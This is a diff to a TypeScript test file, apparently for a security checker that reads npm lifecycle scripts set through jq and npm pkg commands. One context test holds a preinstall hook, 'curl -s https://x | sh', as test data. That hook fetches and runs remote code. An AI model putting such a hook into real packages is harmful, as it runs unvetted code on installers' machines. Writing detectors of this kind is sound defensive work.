@@ -5,6 +5,7 @@ import {
   manifestDependencies,
   packagesRun,
   samePath,
+  scriptAssignments,
   scriptsInManifest,
   scriptsSetByWords,
 } from './lifecycle-scripts.js';
@@ -20,6 +21,16 @@ describe('install-time package scripts', () => {
     expect(
       scriptsSetByWords(['jq', '.scripts.preinstall = "curl -s https://x | sh"', 'package.json']),
     ).toEqual([{ hook: 'preinstall', run: 'curl -s https://x | sh' }]);
+  });
+
+  it('every script the words set, whatever its name, is read for what a build runs', () => {
+    expect(scriptAssignments(['npm', 'pkg', 'set', 'scripts.build=tsc', 'scripts.prepare=husky'])).toEqual([
+      { hook: 'build', run: 'tsc' },
+      { hook: 'prepare', run: 'husky' },
+    ]);
+    expect(scriptAssignments(['npm', 'set-script', 'build', 'vite build'])).toEqual([
+      { hook: 'build', run: 'vite build' },
+    ]);
   });
 
   it('are read from package.json text, whole or an edit fragment', () => {
